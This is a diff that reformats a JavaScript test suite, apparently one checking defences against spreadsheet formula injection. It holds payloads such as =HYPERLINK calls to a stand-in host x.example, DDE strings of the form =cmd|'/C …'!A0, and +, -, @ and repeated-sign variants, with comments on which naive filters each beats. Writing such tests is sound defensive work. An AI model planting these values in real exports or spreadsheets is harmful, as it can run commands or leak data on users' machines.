@@ -126,14 +126,23 @@ export default function checks(t) {
 
   t.exploit('a text that begins with an equals sign', () =>
     attack((mark) =>
-      [`=HYPERLINK("http://x.example/${mark}","Click")`, `=cmd|'/C ${mark}'!A0`, `=1+${mark}`].flatMap(everywhere),
+      [
+        `=HYPERLINK("http://x.example/${mark}","Click")`,
+        `=cmd|'/C ${mark}'!A0`,
+        `=1+${mark}`,
+      ].flatMap(everywhere),
     ),
   );
 
   // Beats care for the equals sign alone.
   t.exploit('a text that begins with plus, minus or at', () =>
     attack((mark) =>
-      [`+1+cmd|'${mark}'!A0`, `-2+3+cmd|'${mark}'!A0`, `@SUM(1+1)*cmd|'${mark}'!A0`, `-${mark}`].flatMap(everywhere),
+      [
+        `+1+cmd|'${mark}'!A0`,
+        `-2+3+cmd|'${mark}'!A0`,
+        `@SUM(1+1)*cmd|'${mark}'!A0`,
+        `-${mark}`,
+      ].flatMap(everywhere),
     ),
   );
 
@@ -147,7 +156,9 @@ export default function checks(t) {
   // Beats taking away the sign: another one comes to the front.
   t.exploit('a text that begins with several signs', () =>
     attack((mark) =>
-      [`==1+${mark}`, `=+=1+${mark}`, `@@=1+${mark}`, `+-=@${mark}`, `-=1+${mark}`].flatMap(everywhere),
+      [`==1+${mark}`, `=+=1+${mark}`, `@@=1+${mark}`, `+-=@${mark}`, `-=1+${mark}`].flatMap(
+        everywhere,
+      ),
     ),
   );
 
